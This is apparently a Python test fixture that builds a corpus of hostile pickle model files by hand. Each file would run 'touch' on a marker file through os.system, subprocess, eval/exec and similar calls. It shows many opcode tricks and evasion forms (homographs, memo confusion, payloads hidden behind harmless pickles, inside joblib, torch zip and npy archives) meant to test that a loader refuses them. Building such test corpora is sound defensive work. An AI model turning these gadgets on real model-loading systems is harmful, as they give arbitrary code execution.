"""Model files that try to run something, one a trick. Each would write a file: that there is none proves that none ran.

Made by hand, opcode by opcode, where no pickler would write them so.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

P4 = b"\x80\x04"


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def line(value: str) -> bytes:
    return b"V" + value.encode() + b"\n"


def call(module: str, name: str, *args: bytes) -> bytes:
    """STACK_GLOBAL and REDUCE with arguments that are code themselves."""
    return text(module) + text(name) + b"\x93(" + b"".join(args) + b"tR"


def whole(code: bytes) -> bytes:
    return P4 + code + b"."


class Gadget:
    """Unpickling it calls `function(*args)`."""

    def __init__(self, function, *args):
        self.call = function, args

    def __reduce__(self):
        return self.call


def raw(marker: Path) -> dict[str, bytes]:
    """Pickles as they are. `marker` is the file each of them would make."""
    shell = f"touch {marker}"
    python = f"open({str(marker)!r}, 'w')"
    touch = text(shell)
    evil = text("posix") + text("system") + b"\x93"
    benign = pickle.dumps({"weights": [1.0, 2.0]}, 4)[:-1]
    return {
        "os.system by REDUCE": whole(call("os", "system", touch)),
        "posix.system by GLOBAL": b"\x80\x02cposix\nsystem\n(" + line(shell) + b"tR.",
        "protocol 0, no PROTO": b"cos\nsystem\n(" + line(shell) + b"tR.",
        "INST": b"(" + line(shell) + b"ios\nsystem\n.",
        "OBJ": P4 + b"(" + evil + touch + b"o.",
        "NEWOBJ": P4 + evil + b"(" + touch + b"t\x81.",
        "NEWOBJ_EX": P4 + evil + b"(" + touch + b"t}\x92.",
        "BUILD with __setstate__": whole(
            text("types") + text("SimpleNamespace") + b"\x93)R}" + text("__setstate__") + evil + b"sb" + touch + b"b"
        ),
        "builtins.eval": whole(call("builtins", "eval", text(python))),
        "builtins.exec": whole(call("builtins", "exec", text(python))),
        "builtins.exec as Python 2": b"\x80\x02c__builtin__\nexecfile\n(" + line(str(marker)) + b"tR.",
        "builtins.__import__": whole(call("builtins", "getattr", call("builtins", "__import__", text("os")), text("system"))),
        "open": whole(call("builtins", "open", text(str(marker)), text("w"))),
        "io.open": whole(call("io", "open", text(str(marker)), text("w"))),
        "_io.FileIO": whole(call("_io", "FileIO", text(str(marker)), text("w"))),
        "pathlib touch": whole(call("pathlib", "Path.touch", call("pathlib", "Path", text(str(marker))))),
        "subprocess.Popen": whole(call("subprocess", "Popen", b"]" + text("touch") + b"a" + text(str(marker)) + b"a")),
        "subprocess.getoutput": whole(call("subprocess", "getoutput", touch)),
        "commands.getoutput": b"\x80\x02ccommands\ngetoutput\n(" + line(shell) + b"tR.",
        "pty.spawn": whole(call("pty", "spawn", b"]" + text("touch") + b"a" + text(str(marker)) + b"a")),
        "runpy": whole(call("runpy", "run_path", text(str(marker)))),
        "importlib": whole(call("importlib", "import_module", text("antigravity"))),
        "code.interact": whole(call("code", "InteractiveInterpreter.runcode", text(python))),
        "cProfile.run": whole(call("cProfile", "run", text(python))),
        "operator.attrgetter": whole(call("operator", "attrgetter", text("system"))),
        "functools.partial of it": whole(call("functools", "partial", evil, touch)),
        "functools.reduce": whole(call("functools", "reduce", evil, b"]")),
        "dotted name": whole(call("sklearn.base", "os.system", touch)),
        "dotted getattr chain": whole(call("builtins", "object.__class__.__subclasses__")),
        "borrowed from a module": whole(call("sklearn.utils", "os", touch)),
        "pickle in a pickle": whole(call("_pickle", "loads", b"B" + (40).to_bytes(4, "little") + b"x" * 40)),
        "joblib.load": whole(call("joblib", "load", text(str(marker)))),
        "numpy runs text": whole(call("numpy.testing._private.utils", "runstring", text(python), b"}")),
        "pandas.eval": whole(call("pandas", "eval", text(python))),
        "memo confusion": P4 + text("math") + b"q\x00" + text("posix") + b"q\x00" + text("system") + b"q\x010h\x00h\x01\x93(" + touch + b"tR.",
        "memo by a long index": P4 + text("posix") + b"r\xff\x00\x00\x00" + b"0j\xff\x00\x00\x00" + text("system") + b"\x93(" + touch + b"tR.",
        "persistent id": P4 + call("os", "system", touch) + b"Q.",
        "persistent id by name": b"P" + shell.encode() + b"\n.",
        "extension registry": P4 + b"\x82\x01(" + touch + b"tR.",
        "behind a harmless object": P4 + benign[2:] + b"0" + call("os", "system", touch) + b".",
        "hidden after a frame": P4 + b"\x95" + (5).to_bytes(8, "little") + call("os", "system", touch) + b".",
        "in a set": whole(b"\x8f(" + call("os", "system", touch) + b"\x90"),
        "as a dict's key": whole(b"}" + call("os", "system", touch) + b"Ns"),
        "truncated after the call": whole(call("os", "system", touch))[:-1],
        "truncated within it": whole(call("os", "system", touch))[:-4],
        "homograph": whole(call("sklеarn.base", "BaseEstimator", touch)),  # the first e is Cyrillic
        "unicode escape": b"c\\u006fs\nsystem\n(" + line(shell) + b"tR.",
    }  # fmt: skip


def wrapped(marker: Path) -> dict[str, bytes]:
    """The same within other formats and compressions."""
    import joblib
    import numpy as np

    shell = f"touch {marker}"
    evil = raw(marker)["os.system by REDUCE"]
    gadget = Gadget(__import__("os").system, shell)

    def saved(value: object, **options: object) -> bytes:
        stream = io.BytesIO()
        joblib.dump(value, stream, **options)
        return stream.getvalue()

    def archive(files: dict[str, bytes]) -> bytes:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as made:
            for name, data in files.items():
                made.writestr(name, data)
        return stream.getvalue()

    array = io.BytesIO()
    np.save(array, np.array([gadget], dtype=object), allow_pickle=True)
    torch = {"archive/data.pkl": evil, "archive/version": b"3\n", "archive/byteorder": b"little"}
    return {
        "gzip": gzip.compress(evil),
        "bz2": bz2.compress(evil),
        "xz": lzma.compress(evil),
        "zlib": zlib.compress(evil),
        "joblib": saved([gadget]),
        "joblib, zlib": saved([gadget], compress=("zlib", 1)),
        "joblib, gzip": saved([gadget], compress=("gzip", 1)),
        "joblib, lzma": saved([gadget], compress=("lzma", 1)),
        "joblib, object array": saved({"a": np.zeros(3), "b": np.array([gadget], dtype=object)}),
        "joblib, nested object arrays": saved(np.array([np.array([gadget, 1], dtype=object), 2], dtype=object)),
        "torch's zip": archive(torch),
        "torch's zip in a zip": archive({"model.pt": archive(torch)}),
        "a skops zip with a pickle": archive({"schema.json": b"{}", "model.pkl": evil}),
        "an object .npy": array.getvalue(),
        "an .npz of it": archive({"arr_0.npy": array.getvalue()}),
    }


def stacked(marker: Path) -> dict[str, bytes]:
    """Harmless pickles with a hostile one behind them."""
    evil = raw(marker)["os.system by REDUCE"]
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({}, 2)
    return {"two pickles": pickle.dumps([1.0], 4) + evil, "torch's older format": magic + evil}


def kinds(make: Callable[[Path], dict[str, bytes]]) -> list[str]:
    """The names of a part of the corpus."""
    return list(make(Path("/nowhere")))
